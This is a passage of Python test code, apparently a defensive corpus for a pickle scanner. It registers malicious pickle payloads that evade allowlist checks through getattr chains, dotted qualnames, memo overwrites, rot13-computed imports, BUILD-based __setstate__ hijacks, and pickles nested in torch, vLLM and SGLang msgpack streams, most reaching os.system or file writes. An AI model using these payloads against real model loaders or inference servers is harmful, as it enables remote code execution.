         expect=frozenset({"copy_reg:_reconstructor", "copyreg:_reconstructor"}))
def _(ctx):
    # Protocol 0, Python 2 name (what protocol 0/1 objects import).
    m = str(ctx.marker).encode()
    return (b"ccopy_reg\n_reconstructor\n(clogging\nFileHandler\np0\ng0\nV" + m + b"\ntR.",
            _file(ctx))


@payload("torch._tensor-_rebuild_from_type_v2", "torch._tensor:_rebuild_from_type_v2",
         needs=frozenset({"torch"}))
def _(ctx):
    # ret = func(*args) with any func.
    return pk(C(G("torch._tensor", "_rebuild_from_type_v2"), G("posix", "system"),
                G("torch", "Tensor"), T(U(_sh(ctx))), NONE)), _file(ctx)


@payload("torch._C-PyTorchFileWriter", "torch._C:PyTorchFileWriter", needs=frozenset({"torch"}))
def _(ctx):
    return pk(C(G("torch._C", "PyTorchFileWriter"), U(str(ctx.marker)))), _file(ctx)


@payload("torch.multiprocessing-rebuild_storage_filename",
         "torch.multiprocessing.reductions:rebuild_storage_filename", needs=frozenset({"torch"}),
         note="attaches to any existing shared-memory object by name (other processes' "
              "tensors) read-write: loading alone writes its refcount into the object and "
              "grows it. The planted object stands for another process's tensor.")
def _(ctx):
    import hashlib
    name = "zg-" + hashlib.sha1(str(ctx.marker).encode()).hexdigest()[:12]
    shm = Path("/dev/shm") / name
    return (pk(C(G("torch.multiprocessing.reductions", "rebuild_storage_filename"),
                 G("torch", "UntypedStorage"), B(b""), B(b"/" + name.encode()), I(16))),
            ("changed", str(shm), b"SECRETSECRETSECR"), {shm: b"SECRETSECRETSECR"})


# ---- shapes -----------------------------------------------------------------------------

# A drop for a refused shape names the first import not allowed, or the
# shape itself (zmtpfw's tags: getattr-shape, unknown-callable,
# build-on-global, second-proto, zip-in-bytes, unknown).
SHAPE_GETATTR = frozenset({"builtins:getattr", "getattr-shape"})
SHAPE_GETATTR_CALL = SHAPE_GETATTR | {"unknown-callable"}

# getattr chains from allowed globals: every step is REDUCE of builtins:getattr.

def _getattr_chain(ctx, start, to_os):
    obj = start
    for attr in to_os:
        if attr.startswith("["):
            obj = C(getattr_(obj, "get"), U(attr[1:-1]))
        else:
            obj = getattr_(obj, attr)
    return pk(C(getattr_(obj, "system"), U(_sh(ctx))), 5)


@payload("shape-getattr-chain-Task", "shape: getattr chain from an allowed class",
         allow=("attackmods.shapes:Task",), needs=frozenset({"attackmods"}),
         expect=SHAPE_GETATTR)
def _(ctx):
    return _getattr_chain(ctx, G("attackmods.shapes", "Task"),
                          ["__init__", "__globals__", "[os]"]), _file(ctx)


@payload("shape-getattr-chain-HalfStorage", "shape: getattr chain from an allowed class",
         needs=frozenset({"torch"}), expect=SHAPE_GETATTR)
def _(ctx):
    # torch:HalfStorage (storage class of @torch) -> its module's torch -> torch.os
    return _getattr_chain(ctx, G("torch", "HalfStorage"),
                          ["__init__", "__globals__", "[torch]", "os"]), _file(ctx)


@payload("shape-getattr-chain-_rebuild_tensor_v2", "shape: getattr chain from an allowed global",
         needs=frozenset({"torch"}), expect=SHAPE_GETATTR)
def _(ctx):
    return _getattr_chain(ctx, G("torch._utils", "_rebuild_tensor_v2"),
                          ["__globals__", "[sys]", "modules", "[os]"]), _file(ctx)


@payload("shape-getattr-chain-_frombuffer", "shape: getattr chain from an allowed global",
         needs=frozenset({"numpy"}), expect=SHAPE_GETATTR)
def _(ctx):
    return _getattr_chain(ctx, G("numpy.core.numeric", "_frombuffer"),
                          ["__globals__", "[sys]", "modules", "[os]"]), _file(ctx)


@payload("shape-getattr-enum-form-ndarray.tofile", "shape: Enum-form getattr whose result is called",
         needs=frozenset({"numpy"}), expect=SHAPE_GETATTR_CALL,
         note="getattr(numpy.ndarray, 'tofile') has the Enum shape (listed class, "
              "identifier without '_'); calling its result writes any file")
def _(ctx):
    arr = C(G("numpy.core.multiarray", "_reconstruct"), G("numpy", "ndarray"), T(I(0)), B(b"b"))
    arr += T(I(1), T(I(3)), C(G("numpy", "dtype"), U("u1"), FALSE, TRUE)
             + T(I(3), U("|"), NONE, NONE, NONE, b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff",
                 I(0)) + b"b", FALSE, B(b"abc")) + b"b"
    return pk(C(getattr_(G("numpy", "ndarray"), "tofile"), arr, U(str(ctx.marker))), 5), _file(ctx)


@payload("shape-getattr-enum-form-HalfStorage.from_file", "shape: Enum-form getattr whose result is called",
         needs=frozenset({"torch"}), expect=SHAPE_GETATTR_CALL,
         note="getattr(torch.HalfStorage, 'from_file') has the Enum shape; calling it with "
              "shared=True creates the file")
def _(ctx):
    return pk(C(getattr_(G("torch", "HalfStorage"), "from_file"), U(str(ctx.marker)), TRUE,
                I(4)), 5), _file(ctx)


# Dotted qualnames through allowed modules (protocol >= 4 resolves them
# attribute by attribute).

@payload("shape-dotted-torch-os.system", "shape: dotted qualname through an allowed module",
         needs=frozenset({"torch"}), expect=frozenset({"torch:os.system"}))
def _(ctx):
    return pk(C(G("torch", "os.system"), U(_sh(ctx))), 5), _file(ctx)


def _dotted_exec(ctx, mod, qual, fn="exec", proto=4):
    """STACK_GLOBAL mod / qual where qual ends in __builtins__.get: a
    function's __builtins__ dict (3.10+) hands out exec/eval by name."""
    src = _py(ctx)
    return pk(C(C(G(mod, qual), U(fn)), U(src)), proto)


@payload("shape-dotted-Task-builtins", "shape: dotted qualname through an allowed class",
         allow=("attackmods.shapes:Task",), needs=frozenset({"attackmods"}),
         expect=frozenset({"attackmods.shapes:Task.__init__.__builtins__.get"}))
def _(ctx):
    return _dotted_exec(ctx, "attackmods.shapes", "Task.__init__.__builtins__.get"), _file(ctx)


@payload("shape-dotted-Task-os", "shape: dotted qualname through an allowed module",
         allow=("attackmods.shapes:Task",), needs=frozenset({"attackmods"}),
         expect=frozenset({"attackmods.shapes:os.system"}))
def _(ctx):
    return pk(C(G("attackmods.shapes", "os.system"), U(_sh(ctx))), 5), _file(ctx)


@payload("shape-dotted-collections-namedtuple", "shape: dotted qualname through an allowed module",
         expect=frozenset({"collections:namedtuple.__builtins__.get"}))
def _(ctx):
    # collections is allowed for OrderedDict; namedtuple is a Python function.
    return _dotted_exec(ctx, "collections", "namedtuple.__builtins__.get"), _file(ctx)


@payload("shape-dotted-collections-Counter", "shape: dotted qualname through an allowed module",
         expect=frozenset({"collections:Counter.__init__.__builtins__.get"}))
def _(ctx):
    return _dotted_exec(ctx, "collections", "Counter.__init__.__builtins__.get"), _file(ctx)


@payload("shape-dotted-_rebuild_tensor_v2", "shape: dotted qualname through an allowed global",
         needs=frozenset({"torch"}),
         expect=frozenset({"torch._utils:_rebuild_tensor_v2.__builtins__.get"}))
def _(ctx):
    return _dotted_exec(ctx, "torch._utils", "_rebuild_tensor_v2.__builtins__.get", "eval", 5), _file(ctx)


@payload("shape-dotted-_frombuffer", "shape: dotted qualname through an allowed global",
         needs=frozenset({"numpy"}),
         expect=frozenset({"numpy.core.numeric:_frombuffer.__globals__.get"}))
def _(ctx):
    # numpy.core.numeric's globals hold sys; sys.modules["os"].system by getattr.
    sysm = C(G("numpy.core.numeric", "_frombuffer.__globals__.get"), U("sys")) + PUT(0) + POP
    osm = C(getattr_(getattr_(GET(0), "modules"), "get"), U("os"))
    return pk(sysm + C(getattr_(osm, "system"), U(_sh(ctx))), 5), _file(ctx)


@payload("shape-second-proto-dotted", "shape: a second PROTO switches dotted resolution on",
         needs=frozenset({"torch"}), expect=frozenset({"torch:os.system", "second-proto"}))
def _(ctx):
    # Declared protocol 2 (dotted names fail there), then PROTO 4 mid-stream.
    return (b"\x80\x02" + U("padding") + POP + b"\x80\x04" + b"ctorch\nos.system\n"
            + U(_sh(ctx)) + b"\x85R."), _file(ctx)


# STACK_GLOBAL operands from an overwritten memo slot.

@payload("shape-memo-overwrite-module", "shape: memo-overwritten operand",
         expect=frozenset({"posix:system"}))
def _(ctx):
    # memo 0 = "collections", then memo 0 = "posix" (BINPUT over it); BINGET 0.
    body = (U("collections") + b"\x94" + POP + U("posix") + PUT(0) + POP
            + GET(0) + U("system") + b"\x93" + U(_sh(ctx)) + b"\x85R")
    return pk(body), _file(ctx)


@payload("shape-memo-overwrite-after-use", "shape: memo-overwritten operand",
         expect=frozenset({"posix:system"}))
def _(ctx):
    # The reverse: memo 0 = "collections" is used for an allowed import
    # first, then overwritten with "posix" and used again.
    body = (U("collections") + b"\x94" + U("OrderedDict") + b"\x94" + b"\x93" + T() + b"R" + POP
            + U("posix") + b"r\x00\x00\x00\x00" + POP  # LONG_BINPUT 0
            + b"j\x00\x00\x00\x00" + U("system") + b"\x93" + U(_sh(ctx)) + b"\x85R")
    return pk(body), _file(ctx)


@payload("shape-memo-overwrite-name", "shape: memo-overwritten operand",
         expect=frozenset({"posix:system"}))
def _(ctx):
    # The name operand: text PUT/GET (p1 / g1) overwritten.
    body = (U("OrderedDict") + b"p1\n" + POP + U("system") + b"p1\n" + POP
            + U("posix") + b"g1\n" + b"\x93" + U(_sh(ctx)) + b"\x85R")
    return pk(body), _file(ctx)


@payload("shape-memo-overwrite-dup", "shape: memo-overwritten operand",
         expect=frozenset({"posix:system"}))
def _(ctx):
    # Both operands memoized as allowed strings, then both slots rewritten
    # from other memo entries (GET + PUT), so no string sits next to the STACK_GLOBAL.
    body = (U("collections") + b"\x94" + U("OrderedDict") + b"\x94" + POP + POP
            + U("posix") + b"\x94" + U("system") + b"\x94" + POP + POP
            + GET(2) + PUT(0) + POP + GET(3) + PUT(1) + POP
            + GET(0) + GET(1) + b"\x93" + U(_sh(ctx)) + b"\x85R")
    return pk(body), _file(ctx)


@payload("shape-computed-operand", "shape: STACK_GLOBAL operand computed by a call",
         allow=("_codecs:encode",), expect=frozenset({"unknown"}))
def _(ctx):
    # _codecs.encode(..., "rot13") returns a str: "posix" / "system" appear nowhere.
    mod = C(G("_codecs", "encode"), U("cbfvk"), U("rot13"))
    name = C(G("_codecs", "encode"), U("flfgrz"), U("rot13"))
    return pk(mod + name + b"\x93" + U(_sh(ctx)) + b"\x85R"), _file(ctx)


# BUILD applied to an imported class.

@payload("shape-build-on-class", "shape: BUILD on a class", allow=("attackmods.shapes:Task",),
         needs=frozenset({"attackmods"}), expect=frozenset({"attackmods.shapes:Task", "build-on-global"}))
def _(ctx):
    # BUILD (None, {"trace_dir": dir}) on the class object sets a class
    # attribute; the next Task (NEWOBJ + BUILD, the normal shape) writes dir/rid.
    hijack = G("attackmods.shapes", "Task") + T(NONE, D((U("trace_dir"), U(str(ctx.marker.parent))))) \
        + b"b" + POP
    task = G("attackmods.shapes", "Task") + T() + b"\x81" + D((U("rid"), U(ctx.marker.name)),
                                                              (U("prompt"), U("x"))) + b"b"
    return pk(hijack + L(task), 5), _file(ctx)


@payload("shape-build-on-class-setstate", "shape: BUILD on a class", allow=("attackmods.shapes:Task",),
         needs=frozenset({"attackmods"}),
         expect=frozenset({"attackmods.shapes:Task", "posix:system", "build-on-global"}))
def _(ctx):
    # BUILD sets Task.__setstate__ = posix.system; BUILD of the next Task
    # instance calls system(state).
    hijack = G("attackmods.shapes", "Task") + T(NONE, D((U("__setstate__"), G("posix", "system")))) \
        + b"b" + POP
    task = G("attackmods.shapes", "Task") + T() + b"\x81" + U(_sh(ctx)) + b"b"
    return pk(hijack + task, 5), _file(ctx)


# Nested pickles: torch.storage:_load_from_bytes and vLLM's bytes method.

def _legacy_head():
    """The first three pickles of a legacy torch.save stream (magic number,
    protocol version, sys_info), taken from a real one."""
    import torch
    buf = io.BytesIO()
    torch.save(torch.zeros(2, dtype=torch.float16).storage(), buf,
               _use_new_zipfile_serialization=False)
    data = buf.getvalue()
    off = 0
    for _ in range(3):
        for op, arg, pos in pickletools.genops(data[off:]):
            if op.name == "STOP":
                off += pos + 1
                break
    return data[:off]


def _tensor_pickle(inner):
    """A tensor as pickle.dumps writes it with torch 1.13 (protocol 5),
    the storage's bytes replaced by inner."""
    import torch
    import torch._utils
    import torch.storage
    st = R(torch.storage._load_from_bytes, inner)
    t = R(torch._utils._rebuild_tensor_v2, st, 0, (2,), (1,), False, OrderedDict())
    return pickle.dumps(t, protocol=5)


@payload("nested-torch-legacy-main", "shape: nested pickle in _load_from_bytes",
         needs=frozenset({"torch"}), untrusted=True, expect=frozenset({"posix:system"}))
def _(ctx):
    # Legacy stream: real magic/protocol/sys_info pickles, then the main
    # pickle imports posix:system.
    return _tensor_pickle(_legacy_head() + _os_system(ctx, 2)), _file(ctx)


@payload("nested-torch-legacy-first", "shape: nested pickle in _load_from_bytes",
         needs=frozenset({"torch"}), untrusted=True, expect=frozenset({"posix:system"}))
def _(ctx):
    # The first pickle of the stream (where torch.load expects the magic number).
    return _tensor_pickle(_os_system(ctx, 2) + _legacy_head()), _file(ctx)


@payload("nested-torch-zip", "shape: nested pickle in _load_from_bytes",
         needs=frozenset({"torch"}), untrusted=True, expect=frozenset({"posix:system", "unknown", "zip-in-bytes"}),
         note="the bytes are a torch.save zip archive (begins 'PK'), not a pickle: torch.load "
              "accepts it and unpickles data.pkl inside; a check that only follows bytes that "
              "begin like a pickle misses it")
def _(ctx):
    return _tensor_pickle(_torch_zip(ctx)), _file(ctx)


@payload("nested-vllm-method-p5", "shape: nested pickle in a bytes method",
         decode="vllm-shm", untrusted=True, expect=frozenset({"posix:system"}))
def _(ctx):
    # shm_broadcast's (method, args, kwargs, rank): no import outside.
    return pickle.dumps((_os_system(ctx, 5), (), {}, 0), protocol=5), _file(ctx)


@payload("nested-vllm-method-p0", "shape: nested pickle in a bytes method",
         decode="vllm-shm", untrusted=True, expect=frozenset({"os:system"}))
def _(ctx):
    inner = b"cos\nsystem\n(S'" + _sh(ctx).encode() + b"'\ntR."
    return pickle.dumps((inner, (), {}, 0), protocol=5), _file(ctx)


@payload("nested-vllm-method-cloudpickle", "shape: nested pickle in a bytes method",
         decode="vllm-shm", untrusted=True, needs=frozenset({"cloudpickle"}), expect=frozenset({"posix:system"}))
def _(ctx):
    import cloudpickle
    inner = cloudpickle.dumps(R(os.system, _sh(ctx)))
    return pickle.dumps((inner, ("arg",), {"k": 1}, 0), protocol=5), _file(ctx)


# Pickles inside msgpack.

def _mp_ext(code, data, form):
    n = len(data)
    if form == "fixext":
        return bytes([{1: 0xD4, 2: 0xD5, 4: 0xD6, 8: 0xD7, 16: 0xD8}[n], code]) + data
    if form == "ext8":
        return b"\xc7" + bytes([n, code]) + data
    if form == "ext16":
        return b"\xc8" + struct.pack(">H", n) + bytes([code]) + data
    if form == "ext32":
        return b"\xc9" + struct.pack(">I", n) + bytes([code]) + data
    raise ValueError(form)


def _mp_bin(data, form):
    n = len(data)
    if form == "bin8":
        return b"\xc4" + bytes([n]) + data
    if form == "bin16":
        return b"\xc5" + struct.pack(">H", n) + data
    return b"\xc6" + struct.pack(">I", n) + data


def _padded_open(ctx, pad, proto=5):
    body = (U("A" * pad) + POP if pad else b"") + C(G("builtins", "open"), U(str(ctx.marker)), U("w"))
    return pk(body, proto)


_EXT_FORMS = {  # name: (form, padding so the length is canonical for the form)
    "ext8": ("ext8", 0),
    "ext16": ("ext16", 300),
    "ext32": ("ext32", 70000),
    "ext16-short": ("ext16", 0),   # valid, not canonical
    "ext32-short": ("ext32", 0),
}


def _vllm_frame(ext):
    # A vLLM-style msgpack array (fixarray 3): ["utility", 7, <ext>]
    return b"\x93\xa7utility\x07" + ext


for _code in (1, 2):
    for _fname, (_form, _pad) in _EXT_FORMS.items():
        @payload(f"msgpack-{_fname}-type{_code}", f"shape: pickle inside msgpack ({_form}, ext type {_code})",
                 decode="msgpack-vllm", untrusted=True, expect=frozenset({"builtins:open"}))
        def _(ctx, _code=_code, _form=_form, _pad=_pad):
            return _vllm_frame(_mp_ext(_code, _padded_open(ctx, _pad), _form)), _file(ctx)

    @payload(f"msgpack-fixext16-type{_code}", f"shape: pickle inside msgpack (fixext16, ext type {_code})",
             decode="msgpack-vllm", untrusted=True, expect=frozenset({"os:mkdir"}),
             note="16 bytes: os.mkdir('x') in the worker's cwd")
    def _(ctx, _code=_code):
        p = b"cos\nmkdir\n\x8c\x01x\x85R."
        assert len(p) == 16
        return _vllm_frame(_mp_ext(_code, p, "fixext")), ("file", str(ctx.cwd / "x"))

    @payload(f"msgpack-fixext8-type{_code}", f"shape: pickle inside msgpack (fixext8, ext type {_code})",
             decode="msgpack-vllm", untrusted=True, expect=frozenset({"os:sep"}),
             import_only="8 bytes hold an import (GLOBAL os sep: os is imported, then the "
                         "missing STOP raises) but no call: the shortest call needs 15 (fixext1/2/4 "
                         "cannot even import: GLOBAL needs 5 bytes, STACK_GLOBAL 7)")
    def _(ctx, _code=_code):
        p = b"cos\nsep\n"
        assert len(p) == 8
        return _vllm_frame(_mp_ext(_code, p, "fixext")), ("received",)


_BIN_FORMS = {"bin8": ("bin8", 0), "bin16": ("bin16", 300), "bin32": ("bin32", 70000),
              "bin16-short": ("bin16", 0), "bin32-short": ("bin32", 0)}

for _fname, (_form, _pad) in _BIN_FORMS.items():
    @payload(f"msgpack-picklewrapper-{_fname}", f"shape: pickle inside msgpack (PickleWrapper {_form})",
             decode="msgpack-sglang", untrusted=True, expect=frozenset({"builtins:open"}))
    def _(ctx, _form=_form, _pad=_pad):
        # 92 ad "PickleWrapper" c4/c5/c6 <pickle protocol 4>
        return b"\x92\xadPickleWrapper" + _mp_bin(_padded_open(ctx, _pad, 4), _form), _file(ctx)


@payload("msgpack-picklewrapper-in-field", "shape: pickle inside msgpack (PickleWrapper in a typed field)",
         decode="msgpack-sglang", untrusted=True, expect=frozenset({"builtins:open"}))
def _(ctx):
    # A map {"rid": "r1", "input_ids": [1, 2, 3], "custom_logit_processor": PickleWrapper}
    pw = b"\x92\xadPickleWrapper" + _mp_bin(_padded_open(ctx, 0, 4), "bin8")
    return (b"\x83\xa3rid\xa2r1\xa9input_ids\x93\x01\x02\x03\xb6custom_logit_processor" + pw,
            _file(ctx))


def gadget_names():
    return [n for n in NAMES if not _REG[n][0].startswith("shape")]


def shape_names():
    return [n for n in NAMES if _REG[n][0].startswith("shape")]


# Every module of ENGINES.md's gadget list (a payload must import each).
ENGINES_GADGET_MODULES = [
    "builtins", "__builtin__", "code", "codeop", "runpy", "marshal", "types", "cProfile", "profile",
    "pdb", "bdb", "timeit", "trace", "doctest", "idlelib", "pydoc", "numpy.f2py", "numpy.testing",
    "cloudpickle", "operator", "_operator", "pkgutil", "inspect", "importlib", "_imp", "zipimport",
    "functools", "os", "posix", "nt", "sys", "subprocess", "_posixsubprocess", "pty",
    "multiprocessing", "shutil", "tempfile", "io", "_io", "pathlib", "logging", "tarfile",
    "zipfile", "shelve", "sqlite3", "mmap", "ctypes", "socket", "ssl", "http", "urllib",
    "requests", "asyncio", "webbrowser", "pickle", "_pickle", "dill", "joblib", "torch",
    "torch.jit", "torch.hub", "torch.serialization", "torch.storage", "copyreg", "copy_reg",
    "torch._C", "torch._tensor", "torch.multiprocessing",
]
